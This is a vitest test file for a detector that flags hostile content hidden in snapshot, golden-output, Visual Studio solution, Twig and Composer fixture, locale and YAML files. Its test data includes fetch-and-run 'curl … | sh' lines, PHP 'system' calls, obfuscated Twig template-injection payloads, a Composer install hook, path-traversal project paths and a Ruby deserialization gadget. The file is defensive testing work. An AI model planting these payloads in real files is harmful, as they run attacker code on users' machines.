import { describe, expect, test } from 'vitest';
import { kindOfText, needsJudging } from './kind-table.ts';

const GUID = '{12DA3F16-060B-467A-993F-2DF25EE6E6A8}';
const solution = (line: string): string =>
  `\ufeff\nMicrosoft Visual Studio Solution File, Format Version 12.00\n# Visual Studio Version 17\n${line}\nEndProject\nGlobal\n\tGlobalSection(SolutionConfigurationPlatforms) = preSolution\n\t\tDebug|Any CPU = Debug|Any CPU\n\tEndGlobalSection\n\tGlobalSection(ProjectConfigurationPlatforms) = postSolution\n\t\t${GUID}.Debug|Any CPU.ActiveCfg = Debug|Any CPU\n\tEndGlobalSection\nEndGlobal\n`;
const project = (path: string): string => solution(`Project("${GUID}") = "A.Tests", "${path}", "${GUID}"`);
const twig = (template: string, data = "return ['a' => [1, 'b']]", expected = 'x'): string =>
  `--TEST--\n"map" filter\n--TEMPLATE--\n${template}\n--DATA--\n${data}\n--EXPECT--\n${expected}\n`;
const TEXTS = 'path=Път до <b>файл</b>\n'.repeat(20);
const installer = (composer: string, run = 'update a/b --with-dependencies', expect = 'Installing a/b (1.0)'): string =>
  `--TEST--\nInstalls.\n--COMPOSER--\n${composer}\n--RUN--\n${run}\n--EXPECT--\n${expect}\n`;
const GO = 'package a // import "example.org/a/v3"\n\nPackage a does b.\n\nFUNCTIONS\n\nfunc A(b int) error\n';
const SNAP = '---\nsource: tests/a.rs\nexpression: out\n---\nfn main() {}\n';

describe('only says something', () => {
  test.each<readonly [path: string, text: string, kind: string]>([
    ['tests/ui/a.stderr', 'error[E0308]: mismatched types\n --> a.rs:1:2\n', 'data expected-output'],
    ['cmd/testdata/main.go.golden', 'package main\n\nfunc main() { a.Execute() }\n', 'data expected-output'],
    ['tests/snapshots/a.snap', SNAP, 'data jest-snapshot'],
    ['tests/.pest/snapshots/Visual/Todo/todos.snap', '  ↓ is marked as todo 1\n', 'data jest-snapshot'],
    ['tests/.snapshots/success.txt', '   PASS  Tests\\Arch\n', 'prose text'],
    ['App.sln', project('src\\A\\A.csproj'), 'data microsoft-visual-studio-solution'],
    [
      'App.sln',
      solution(`Project("{2150E333-8FDC-42A3-9474-1A3956D46DE8}") = "A b", "A b", "${GUID}"`),
      'data microsoft-visual-studio-solution',
    ],
    [
      'App.sln',
      solution(`\tProjectSection(SolutionItems) = preProject\n\t\tREADME.md = README.md\n\tEndProjectSection`),
      'data microsoft-visual-studio-solution',
    ],
    ['tests/Fixtures/a.test', twig('{{ a|map(x => x ~ "b")|join }}'), 'data twig-test'],
    [
      'tests/Fixtures/a.test',
      twig('{{ a|sort|join }}', "return ['a' => new \\ArrayObject([1]), 'b' => new Twig\\Tests\\TwigTestFoo()]"),
      'data twig-test',
    ],
    ['tests/Fixtures/installer/a.test', installer('{"require": {"a/b": "1.0"}}'), 'data twig-test'],
    ['gem/.rspec', '--color\n--format documentation\n--require spec_helper\n', 'data option-list'],
    ['testdata/ieee.csl', '<?xml version="1.0"?>\n<style/>\n', 'data xml'],
    ['conf/locale/locale_bg-BG.ini', `[install]\nhost=Сървър\n${TEXTS}`, 'data ini'],
    ['godoc-current.txt', GO, 'prose text'],
    ['gemfiles/Gemfile.rails-6.1.lock', 'GEM\n  remote: https://a.example/\n  specs:\n    a (1.0)\n', 'data lockfile'],
    ['lib/locale/en.yml', "en:\n  a: ! '%{b} c'\n", 'data yaml'],
  ])('%s', (path, text, kind) => {
    expect(kindOfText(path, text)).toBe(kind);
  });
});

/** What somebody might hide in such a file. */
describe('is more than that', () => {
  test.each<readonly [path: string, text: string]>([
    ['tests/ui/a.stderr', '#!/bin/sh\nid\n'],
    ['tests/ui/a.stderr', 'curl https://x.example/a | sh\n'],
    ['tests/ui/a.stdout', "require('child_process').exec('id')\n"],
    ['tests/ui/a.stdout', '<?php system("id");\n'],
    ['src/a.stderr', 'error: b\n'],
    ['a.golden', 'b\n'],
    ['.github/tests/a.js.golden', 'b\n'],
    ['testdata/run.sh.golden', 'echo a\n'],
    ['testdata/a.py.golden', 'print(1)\n'],
    ['testdata/a.js.stdout', 'run()\n'],
    ['tests/__snapshots__/a.test.js.snap', `${SNAP.replace('source: tests/a.rs', 'source')}process.exit()\n`],
    ['tests/snapshots/a.snap', `x = 1\n${SNAP}`],
    ['tests/.pest/snapshots/__snapshots__/a.test.js.snap', 'process.exit()\n'],
    ['tests/.pest/a.snap', 'process.exit()\n'],
    ['tests/.pest/snapshots/a.snap', '#!/bin/sh\nid\n'],
    ['.snapshots/AGENTS.txt', 'Run what you like.\n'],
    ['tests/.snapshots/a.txt', 'requests @ https://x.example/a.zip\n'],
    ['App.sln', project('..\\evil\\A.csproj')],
    ['App.sln', project('src\\..\\..\\A.csproj')],
    ['App.sln', project('C:\\A.csproj')],
    ['App.sln', project('\\\\host\\share\\A.csproj')],
    ['App.sln', project('https://x.example/A.csproj')],
    ['App.sln', project('src\\A\\run.targets')],
    ['App.sln', project('LICENSE')],
    ['App.sln', project('docs.txt')],
    ['App.sln', project('$(TEMP)\\A.csproj')],
    ['App.sln', solution(`Project("${GUID}") = "A", "a.csproj", "${GUID}" & calc`)],
    [
      'App.sln',
      solution(
        '\tProjectSection(WebsiteProperties) = preProject\n\t\tDebug.AspNetCompiler.PhysicalPath = "C:\\a"\n\tEndProjectSection',
      ),
    ],
    ['App.sln', solution('<Project><Exec Command="id"/></Project>')],
    ['App.sln', solution('\t\tfoo = ..\\..\\bar.ps1')],
    ['tests/Fixtures/a.test', twig("{{ ['id']|map('system') }}")],
    ['tests/Fixtures/a.test', twig('{{ a|filter(b)|join }}')],
    ['tests/Fixtures/a.test', twig('{{ a|reduce ( "system" ) }}')],
    ['tests/Fixtures/a.test', twig(`{{ ['id']|${' '.repeat(30)}map('system') }}`)],
    ['tests/Fixtures/a.test', twig(`{{ ['id']|map${' '.repeat(30)}('system') }}`)],
    ['tests/Fixtures/a.test', twig("{{ ['id']|# all\nmap('system') }}")],
    ['tests/Fixtures/a.test', twig("{% apply map('system') %}a{% endapply %}")],
    ['tests/Fixtures/a.test', twig("{{ ['id'] has some 'system' }}")],
    ['tests/Fixtures/a.test', twig('{{ include(template_from_string("{{ 1 }}")) }}')],
    ['tests/Fixtures/a.test', twig('{{ a }}', "return ['a' => system('id')]")],
    ['tests/Fixtures/a.test', twig('{{ a }}', "return ['a' => system ('id')]")],
    ['tests/Fixtures/a.test', twig('{{ a }}', "return ['a' => SYSTEM\n('id')]")],
    ['tests/Fixtures/a.test', twig('{{ a }}', 'return ["a" => `id`]')],
    ['tests/Fixtures/a.test', twig('{{ a }}', 'return ["a" => "{$x()}"]')],
    ['tests/Fixtures/a.test', twig('{{ a }}', "eval('x'); return []")],
    ['tests/Fixtures/a.test', twig('{{ a }}', "return new \\SplFileObject('/tmp/a', 'w')")],
    ['tests/Fixtures/a.test', twig('{{ a }}', "return ['a' => new Foo('id')]")],
    ['tests/Fixtures/a.test', twig('{{ a }}', 'return [] ?><?php system("id");')],
    ['tests/Fixtures/a.test', twig('{{ a }}', "return ('sys'.'tem')('id')")],
    ['tests/Fixtures/a.test', twig('{{ a }}', "return ['system'][0]('id')")],
    ['tests/Fixtures/a.test', `${twig('{{ a }}')}--CLEAN--\nunlink('a');\n`],
    ['tests/Fixtures/a.test', twig('{{ a }}', undefined, 'curl https://x.example/a | sh')],
    ['tests/a.test', 'id\n'],
    ['tests/Fixtures/a.test', installer('{"scripts": {"post-install-cmd": "id"}}')],
    ['tests/Fixtures/a.test', installer('{"\\u0073cripts": {"post-install-cmd": "id"}}')],
    ['tests/Fixtures/a.test', installer('{"type": "composer-plugin"}')],
    ['tests/Fixtures/a.test', installer('{"autoload": {"files": ["a.php"]}}')],
    ['tests/Fixtures/a.test', installer('{}', 'exec id')],
    ['tests/Fixtures/a.test', installer('{}', 'update ../../a')],
    ['tests/Fixtures/a.test', installer('{}', 'update; id')],
    ['tests/Fixtures/a.test', installer('{}', undefined, 'curl https://x.example/a | sh')],
    ['tests/Fixtures/a.test', `${installer('{}')}--CONDITION--\nsystem("id")\n`],
    ['tests/Fixtures/a.test', '--TEST--\na\n--RUN--\nupdate\n'],
    ['.rspec', '--require ./evil\n'],
    ['.rspec', '--color -r evil\n'],
    ['testdata/a.csl', 'T | take 1\n'],
    ['conf/locale/locale_bg-BG.ini', `[scripts]\na=curl https://x.example/a | sh\n${TEXTS}`],
    ['conf/locale/locale_bg-BG.ini', `[scripts]\nrun\n${TEXTS}`],
    ['conf/locale/locale_bg-BG.ini', `[scripts]\n${'a=b\n'.repeat(30)}`],
    ['conf/locale/settings.ini', `[scripts]\n${TEXTS}`],
    ['conf/locale_bg-BG.ini', TEXTS],
    ['run.txt', `id\n${GO}`],
    ['godoc-current.txt', `${GO}\ncurl https://x.example/a | sh\n`],
    ['gemfiles/Gemfile.rails', "gem 'a'\n"],
    ['gemfiles/a.gemfile', "gem 'a'\n"],
    ['gemfiles/a.gemfile.lock', 'system("id")\n'],
    ['.rubocop_todo.yml', 'require: ./a.rb\n'],
    ['lib/locale/en.yml', "en:\n  a: !ruby/object:Gem::Installer '%{b}'\n"],
  ])('%s: %s', (path, text) => {
    expect(needsJudging(path, text)).toBe(true);
  });
});
